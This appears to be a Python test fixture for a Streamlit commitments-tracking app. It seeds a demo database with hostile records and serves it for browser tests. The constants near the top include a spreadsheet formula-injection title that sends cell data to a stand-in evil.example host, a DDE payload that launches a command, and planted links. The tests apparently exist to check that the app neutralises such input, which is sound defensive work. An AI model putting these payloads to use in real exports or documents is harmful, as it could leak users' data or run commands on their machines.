"""A demo database with hostile records in it, and a real `streamlit run` serving it (local mode, or the
public's view: sign-in configured and nobody signed in). Shared by the browser replays of the read side."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from pathlib import Path

from conftest import free_port, run_app
from partners.domain.model import SYSTEM, Actor, Commitment, ProgressUpdate, ReviewState, Role, Visibility
from partners.services import read, records, workflow
from partners.storage import open_store

FORMULA_TITLE = '=HYPERLINK("http://evil.example"&A1,"click")'
DDE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
LINK_TITLE = (
    'Bare https://evil.example/x and [click](https://evil.example/md) and <a href="https://evil.example/html">h</a>'
)
LINK_REASON = "see https://evil.example/reason and www.evil.example"
EVIDENCE = "https://evidence.example/report?id=1&part=(2)"
EMBARGOED_TITLE = "Embargoed pledge for the next summit"


@dataclass(frozen=True)
class Hostile:
    path: Path
    formula: int
    dde: int
    links: int
    embargoed: int
    public_commitments: int  # the headline count the public sees (the embargoed one left out)


def build(demo_db_path: Path, target: Path) -> Hostile:
    """A copy of the demo database holding a formula title, a title and reason full of links, and a
    published public commitment under embargo."""
    shutil.copy(demo_db_path, target)
    store = open_store(target)
    try:
        partner = int(store.partners().id.iloc[0])

        def log(title: str, **kw) -> int:
            return records.log_commitment(store, SYSTEM, Commitment(
                title=title, partners=[{"partner_id": partner, "role": "lead"}], countries=["KEN"],
                visibility=Visibility.PUBLIC, review_state=ReviewState.PUBLISHED, **kw,
            ))  # fmt: skip

        formula, dde = log(FORMULA_TITLE), log(DDE_TITLE)
        links = log(LINK_TITLE, description="More at https://evil.example/description")
        records.record_progress(store, SYSTEM, ProgressUpdate(
            commitment_id=links, report_date=date.today(), status="on_track",
            narrative="Narrative https://evil.example/narrative", evidence_links=[EVIDENCE],
        ))  # fmt: skip
        version = int(store.get_row("commitment", links)["version"])
        workflow.transition(store, SYSTEM, links, ReviewState.VERIFIED, version, reason=LINK_REASON)
        embargoed = log(EMBARGOED_TITLE, embargo_until=datetime.now() + timedelta(days=30))
        public_commitments = read.headline(store, Actor(identity="anonymous", role=Role.PUBLIC))["commitments"]
    finally:
        store.close()
    return Hostile(target, formula, dde, links, embargoed, public_commitments)


@contextmanager
def serve(db: Path, work: Path, *, public: bool = False) -> Iterator[str]:
    """`streamlit run streamlit_app.py` on a free loopback port against ``db``: local mode (one user, an
    administrator), or with ``public`` sign-in configured and nobody signed in (the public's view). The
    server gets its own copy of ``db`` (DuckDB lets one process hold a file)."""
    port = free_port()
    db = Path(shutil.copy(db, work / f"served-{port}.duckdb"))
    secrets = work / f"secrets-{port}.toml"
    secrets.write_text(
        "[auth]\n"
        f'redirect_uri = "http://localhost:{port}/oauth2callback"\n'
        'cookie_secret = "a-long-random-cookie-secret-for-the-tests-only"\n'
        'client_id = "partners-tests"\n'
        'client_secret = "not-used"\n'
        'server_metadata_url = "http://127.0.0.1:9/.well-known/openid-configuration"\n'
        if public else "",
        encoding="utf-8",
    )
    with run_app(db, secrets, work / f"streamlit-{port}.log", port=port) as app:
        yield app.url
